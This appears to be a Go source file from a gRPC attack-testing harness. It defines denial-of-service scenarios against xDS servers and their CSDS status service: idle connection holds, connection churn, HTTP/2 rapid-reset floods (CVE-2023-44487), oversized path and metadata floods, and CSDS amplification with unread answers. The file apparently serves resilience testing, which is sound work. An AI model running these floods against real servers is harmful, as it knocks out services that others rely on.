// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

var (
	xdsServe = orders.Serve{Extra: orders.XDS, MaxStreams: 100}
	// bootstrapFile is where a server of package xds finds its control plane, which it has itself.
	bootstrapFile = []string{"GRPC_XDS_BOOTSTRAP=" + filepath.Join(os.TempDir(), fmt.Sprintf("attack-bootstrap-%d.json", os.Getpid()))}
)

const (
	statusFetch  = "/envoy.service.status.v3.ClientStatusDiscoveryService/FetchClientStatus"
	statusStream = "/envoy.service.status.v3.ClientStatusDiscoveryService/StreamClientStatus"
)

// stated is what a program holds of its own for an answer of CSDS: all resources, 1.1 MB, as a message and
// encoded.
const stated = 2200 << 10

// waits is what such an answer takes that waits to be sent: 1.1 MB, in a buffer that fits.
const waits = 1300 << 10

// xdsServerKinds are attacks on servers of package xds, which match each connection with filter chains and
// each RPC with routes, and on CSDS, which answers a few bytes with all that the server was told.
var xdsServerKinds = []Kind{
	{
		Name: "server/xds/silent", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "2,000 connections that never say a word",
		Attack: hold(2000, false, func(*attacker.Conn) error { return nil }),
	},
	{
		Name: "server/xds/churn", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "connections that come and go, each of which is matched with 250 filter chains",
		Attack: churnOf(8, wire.Preface+settings),
	},
	{
		Name: "server/xds/rapid", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "calls that are reset at once, each of which is matched with 200 routes (CVE-2023-44487)",
		Attack: flood(4, true, headersThenReset(slowCall, true)),
	},
	{
		Name: "server/xds/no-route", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "calls for a path of 8 KB, which is compared with each route",
		Attack: flood(4, true, request(wire.Request("/"+bytesOf(8<<10)))),
	},
	{
		Name: "server/xds/metadata", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "calls with 200 fields of metadata",
		Attack: flood(2, true, request(append(wire.Request(orders.Sink), appendMany(nil, 200, "x", "value")...))),
	},
	{
		Name: "server/xds/unread", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "50 streams with 10 KB that handlers have not read, reset, again and again",
		Attack: flood(4, true, resetAfter(50, orders.Deaf, wire.AppendMessage(nil, 0, make([]byte, 10<<10)), 0)),
	},
	{
		Name: "server/csds/fetch", Serve: xdsServe, Extras: true, Env: bootstrapFile, Spate: 200 * stated, Dear: 2 * time.Second,
		About: "calls of 5 bytes that are answered with all resources, one after the other",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(2, func(c *attacker.Conn) error {
				c.Drain(nil)
				return repeat(c, func(c *attacker.Conn) error {
					return first(asked(statusFetch, nil)(c), c.Window(0, 256<<10), c.Flush())
				})
			})
		},
	},
	{
		Name: "server/csds/fetch-unread", Serve: xdsServe, Extras: true, Env: bootstrapFile, Own: 4 * 100 * waits,
		About:  "the same, nobody reads",
		Attack: hold(4, false, asking(100, statusFetch, nil)),
	},
	{
		Name: "server/csds/stream", Serve: xdsServe, Extras: true, Env: bootstrapFile, Spate: 64 * mib, Dear: 2 * time.Second,
		About:  "requests on 10 streams, again and again",
		Attack: requestsOn(10, true, statusStream, nil),
	},
	{
		Name: "server/csds/stream-unread", Serve: xdsServe, Extras: true, Env: bootstrapFile, Own: 100 * 2 * waits, // one that waits, and the next
		About:  "the same on 100 streams in windows of 0",
		Attack: requestsOn(100, false, statusStream, nil),
	},
	{
		Name: "server/csds/matchers", Serve: xdsServe, Extras: true, Env: bootstrapFile,
		About:  "requests with 1,000 node matchers, which nobody supports",
		Attack: requestsOn(10, true, statusStream, repeatedField(1, 1000)),
	},
}

// repeatedField is a message that has a field of an empty message n times.
func repeatedField(field byte, n int) (b []byte) {
	for range n {
		b = append(b, field<<3|2, 0)
	}
	return b
}
